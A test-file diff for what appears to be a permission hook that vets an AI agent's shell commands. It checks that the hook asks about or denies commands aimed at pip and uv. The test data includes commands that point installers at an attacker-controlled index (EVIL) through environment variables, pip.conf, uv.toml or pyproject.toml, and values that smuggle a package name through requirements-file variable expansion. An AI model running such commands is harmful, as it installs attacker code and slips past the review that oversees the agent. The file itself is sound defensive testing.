@@ -110,3 +110,66 @@ def test_pip_options_from_the_environment_in_files(repo: Repo, run: object) -> N
     repo.stage({"setup.sh": "#!/bin/sh\nexport XDG_CONFIG_HOME=/tmp/cfg\npip install rich\n"})
     outcome = run()  # type: ignore[operator]
     assert outcome.code == 1 and outcome.codes() == ["HC043"], outcome.out
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES))
+@pytest.mark.parametrize(("committed", "command", "expected"), [
+    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", f"PRIVATE_INDEX={EVIL} pip install -r requirements.txt", "ask"),
+    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", f"export PRIVATE_INDEX={EVIL} && pip install -r requirements.txt",
+     "ask"),
+    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", "pip install -r requirements.txt", "ask"),
+    ("--extra-index-url ${PRIVATE_INDEX}\nrich\n", "PRIVATE_INDEX=$(cat url) pip install -r requirements.txt", "ask"),
+    ("rich\n${EXTRA_PKG}\n", "EXTRA_PKG=huggingface-cli pip install -r requirements.txt", "deny"),
+    ("rich\n${EXTRA_PKG}\n", "EXTRA_PKG=huggingface-cli uv pip install -r requirements.txt", "deny"),
+    ("rich  # pinned in ${DOCS}\n", "pip install -r requirements.txt", "run"),
+    ("rich\n", "echo '${EXTRA_PKG}' > r.txt; EXTRA_PKG=huggingface-cli pip install -r r.txt", "deny"),
+])
+def test_variables_pip_expands_in_a_requirements_file_are_the_commands(
+        project: Repo, shape: str, committed: str, command: str, expected: str, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """Attack E25: pip expands ``${NAME}`` in a requirements file from the environment, so a committed file is
+    read with the command's variables; a name the command does not set is asked about (what the agent's
+    environment holds there is not known)."""
+    project.commit({"requirements.txt": committed}, "requirements")
+    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == expected
+
+
+UV_TOML = f'[[index]]\nurl = "{EVIL}"\ndefault = true\n'
+UV_INDEX = f'\n[[tool.uv.index]]\nurl = "{EVIL}"\ndefault = true\n'
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES))
+@pytest.mark.parametrize("command", ["uv add rich", "uv pip install rich", "uv sync", "cd sub && uv add rich",
+                                     "uv run --with rich python x.py"])
+@pytest.mark.parametrize("written", ["uv.toml", "pyproject.toml", "uv.toml staged"])
+def test_a_package_index_uv_reads_only_from_disk_is_asked_about(
+        project: Repo, shape: str, command: str, written: str, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """Attack E3: uv reads ``uv.toml`` and ``[tool.uv]`` of the project (the nearest above where it runs); an
+    index the agent wrote there, untracked, unstaged or only staged, is a source HEAD does not have."""
+    project.commit({"sub/x.py": ""}, "sub")
+    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"
+    if written.startswith("uv.toml"):
+        project.write("uv.toml", UV_TOML)
+    else:
+        project.write("pyproject.toml", BASE + UV_INDEX)
+    if written.endswith("staged"):
+        project.git("add", "-A")
+    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "ask"
+    project.git("add", "-A")
+    project.commit(message="the index, reviewed and committed")
+    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"
+
+
+@pytest.mark.parametrize("shape", sorted(SHAPES))
+@pytest.mark.parametrize("command", [
+    f"printf '[[index]]\\nurl = \"{EVIL}\"\\ndefault = true\\n' > uv.toml && uv add rich",
+    f"printf '[global]\\nindex-url = {EVIL}\\n' > pip.conf; PIP_CONFIG_FILE=pip.conf pip install rich",
+    f"mkdir -p ~/.config/pip && printf '[global]\\nindex-url={EVIL}\\n' > ~/.config/pip/pip.conf && pip install rich",
+    f"printf '\\n[[tool.uv.index]]\\nurl = \"{EVIL}\"\\ndefault = true\\n' >> pyproject.toml && uv sync",
+])
+def test_a_command_that_writes_installer_configuration_then_installs_is_asked_about(
+        project: Repo, shape: str, command: str, monkeypatch: pytest.MonkeyPatch,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """The hook reads the disk before the command runs: configuration the command writes first is not there yet."""
+    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "ask"
